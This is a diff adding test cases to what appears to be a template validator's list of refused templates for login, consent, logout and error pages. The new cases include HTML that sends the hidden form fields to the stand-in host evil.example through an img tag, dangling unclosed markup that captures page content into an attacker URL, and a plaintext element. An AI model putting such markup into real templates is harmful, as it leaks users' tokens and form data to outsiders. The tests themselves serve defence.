@@ -106,6 +106,16 @@ REFUSED = [
      "the attribute formaction (on <button>) is not allowed", None),
     ("consent", CONSENT.replace('value="allow"', 'value="yes"'), 'name="decision" value="allow"', None),
     ("logout", LOGOUT.replace("{{ form_fields }}", ""), "{{ form_fields }}", None),
+    # The hidden fields sent elsewhere: the template holds a placeholder, never the values, and
+    # the placeholder must stand as a tag of its own.
+    ("login", LOGIN + "<img src='https://evil.example/?{{ form_fields }}'>", "stands on its own", None),
+    ("login", LOGIN + "<img src=https://evil.example/?{{ form_fields }}>", "stands on its own", None),
+    ("login", LOGIN + "<textarea>{{ form_fields }}</textarea>", "stands on its own", None),
+    ("login", LOGIN.replace("{{ form_fields }}", "{{ form_fields|upper }}"), "must render {{ form_fields }}", None),
+    # Markup left open swallows our layout after it (up to the next quote) into a URL.
+    ("login", LOGIN + "<img src='https://evil.example/?", "ends inside a tag", None),
+    ("login", LOGIN + "<textarea name=x>", "ends inside a tag, an attribute or a textarea", None),
+    ("error", "<plaintext>", "the element <plaintext> is not allowed", None),
     # What the samples without optional values find (a page's client is absent on logout).
     ("logout", LOGOUT.replace("{% if client %}<p>{{ client.name }}</p>{% endif %}", "{{ client.name }}"),
      "'None' has no attribute 'name'", 1),
